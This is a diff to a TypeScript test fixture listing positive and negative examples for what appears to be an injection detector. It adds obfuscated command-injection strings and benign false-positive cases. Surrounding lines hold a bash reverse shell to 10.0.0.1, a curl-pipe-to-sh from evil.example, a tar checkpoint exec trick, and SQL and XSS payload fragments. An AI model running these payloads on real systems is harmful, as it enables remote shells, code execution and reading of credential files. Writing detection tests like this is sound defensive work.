@@ -226,6 +226,8 @@ const CASES: Record<Exclude<ThreatType, `unicode_${string}` | 'invalid_utf8' | '
       "username=admin'%20%7C%7C%20'1'%3D%3D'1",
     ],
     negatives: [
+      'db.users.find({ age: { $gte: 18 } })',
+      'collection.find({ "status": { "$in": ["A","D"] } })',
       'The price is $5 and the fee is $10.',
       'echo $HOME and $PATH',
       'Total: $100 or less',
@@ -254,6 +256,8 @@ const CASES: Record<Exclude<ThreatType, `unicode_${string}` | 'invalid_utf8' | '
       `"}}</script>'`,
     ],
     negatives: [
+      'Use `javascript:void(0)` only as a last resort in href.',
+      '<a href="javascript:void(0)">menu</a>',
       '<div class="hero"><img src="/img/logo.png" alt="Logo"></div>',
       '<a class="btn" href="/docs/"><span>Docs</span></a><link rel="stylesheet" href="/site.css">',
       'Use the <script> tag to include JavaScript files in your page.',
@@ -276,6 +280,11 @@ const CASES: Record<Exclude<ThreatType, `unicode_${string}` | 'invalid_utf8' | '
   command_injection: {
     positives: [
       '; cat /etc/passwd',
+      '`id`',
+      "w'h'oami",
+      "c'a't /e't'c/p'a's's'w'd",
+      'x;i\'\'d',
+      '; w\\ho\\am\\i',
       '127.0.0.1 && whoami',
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
       '$(curl http://evil.example/x.sh | sh)',
@@ -298,6 +307,9 @@ const CASES: Record<Exclude<ThreatType, `unicode_${string}` | 'invalid_utf8' | '
       'tar -cf a.tar * --checkpoint=1 --checkpoint-action=exec=sh shell.sh',
     ],
     negatives: [
+      "Don't worry, it's O'Brien's car and rock'n'roll is fine.",
+      'Open C:\\Users\\bob\\file.txt in the editor.',
+      'Run `ls -al /` to list the files.',
       'ls -la | grep foo',
       'Run `npm install` then `npm test`.',
       'Add your key with ssh-add ~/.ssh/id_ed25519.pub; then run `ssh-copy-id host`.',
